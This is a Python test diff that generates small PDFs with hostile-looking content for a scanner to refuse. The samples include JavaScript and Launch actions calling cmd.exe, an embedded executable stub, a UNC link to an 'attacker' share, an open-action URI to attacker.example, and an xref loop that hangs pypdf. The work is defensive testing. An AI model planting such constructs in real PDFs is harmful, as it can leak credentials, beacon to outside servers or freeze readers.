@@ -166,7 +166,83 @@ def corpus(bomb_size: int = 300 * 2**20) -> dict[str, tuple[bytes, str]]:
                                                 b"/FileAttachment /Rect [0 0 10 10] >>]"),
                             "active content"),
     }
+    files.update(foreign_content())
+    files["xref_prev_loop"] = (xref_prev_loop(), "damaged")
     return files
+
+
+def _field(name: bytes, kind: bytes, extra: bytes = b"") -> dict[int, bytes]:
+    """A form field with its widget on the page (object 5)."""
+    return {5: b"<< /Type /Annot /Subtype /Widget /FT %s /T (%s) /Rect [0 0 100 20] "
+               b"/P 3 0 R %s>>" % (kind, name, extra)}
+
+
+def foreign_content() -> dict[str, tuple[bytes, str]]:
+    """What a scan never has, in every place the issue's probe found it (each refused with
+    "active content or forms"): outlines, a field's parent, associated files, 3D, links to
+    other files and the web, named actions, the signer's own field names, permissions."""
+    refused = "active content"
+    outline = (b"/Outlines 6 0 R", {6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R "
+                                       b"/Count 1 >>"})
+    return {
+        "outline_javascript": (one_page(catalog_extra=outline[0], more={
+            **outline[1], 7: b"<< /Title (Ch\365\306ng 1) /Parent 6 0 R "
+                             b"/A << /S /JavaScript /JS (app.launchURL('http://x')) >> >>"}),
+            refused),
+        "outline_launch": (one_page(catalog_extra=outline[0], more={
+            **outline[1], 7: b"<< /Title (Open) /Parent 6 0 R "
+                             b"/A << /S /Launch /F (cmd.exe) >> >>"}), refused),
+        "field_parent_aa": (one_page(
+            page_extra=b"/Annots [5 0 R]",
+            catalog_extra=b"/AcroForm << /Fields [8 0 R] >>",
+            more={5: b"<< /Type /Annot /Subtype /Widget /Parent 8 0 R /Rect [0 0 10 10] "
+                     b"/P 3 0 R >>",
+                  8: b"<< /FT /Tx /T (name) /Kids [5 0 R] "
+                     b"/AA << /K << /S /JavaScript /JS (event.value='x') >> >> >>"}), refused),
+        "associated_exe": (one_page(
+            catalog_extra=b"/AF [6 0 R]",
+            more={6: b"<< /Type /Filespec /F (setup.exe) /AFRelationship /Data "
+                     b"/EF << /F 7 0 R >> >>",
+                  7: stream(b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in "
+                            b"DOS mode.", b"/Type /EmbeddedFile")}), refused),
+        "annotation_3d": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype /3D "
+                                              b"/Rect [0 0 100 100] /3DD 6 0 R >>]",
+                                   more={6: stream(b"U3D", b"/Type /3D /Subtype /U3D")}),
+                          refused),
+        "gotor_unc": (one_page(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link "
+                                          b"/Rect [0 0 100 100] /A << /S /GoToR "
+                                          # a UNC path: \\attacker\share\x.pdf
+                                          b"/F (\\\\\\\\attacker\\\\share\\\\x.pdf) "
+                                          b"/D [0 /Fit] >> >>]"),
+                      refused),
+        "uri_open_action": (one_page(catalog_extra=b"/OpenAction << /S /URI "
+                                                   b"/URI (http://attacker.example/ping) >>"),
+                            refused),
+        "named_action": (one_page(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"),
+                         refused),
+        "prefilled_leader_field": (one_page(
+            page_extra=b"/Annots [5 0 R]", catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
+            more=_field(b"ChuKyLanhDao", b"/Sig")), "forms"),
+        "prefilled_register_number": (one_page(
+            page_extra=b"/Annots [5 0 R]", catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
+            more=_field(b"SoChungThuc", b"/Tx", b"/V (1) ")), "forms"),
+        "perms_docmdp": (one_page(
+            catalog_extra=b"/Perms << /DocMDP 6 0 R >>",
+            more={6: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
+                     b"/Reference [<< /Type /SigRef /TransformMethod /DocMDP "
+                     b"/TransformParams << /P 1 /V /1.2 >> >>] >>"}), "forms"),
+    }
+
+
+def xref_prev_loop() -> bytes:
+    """A small PDF whose cross-reference table says the previous one is itself: pypdf
+    loops on it for ever (the issue measured 602 bytes, 100 % CPU until killed)."""
+    head = one_page()
+    start = head.rindex(b"startxref")
+    xref = head.rindex(b"xref\n0 ")
+    trailer_at = head.rindex(b"trailer\n<<")
+    return head[:trailer_at] + head[trailer_at:start].replace(
+        b"<< /Size", b"<< /Prev %d /Size" % xref) + head[start:]
 
 
 def encrypted_pdf() -> bytes:
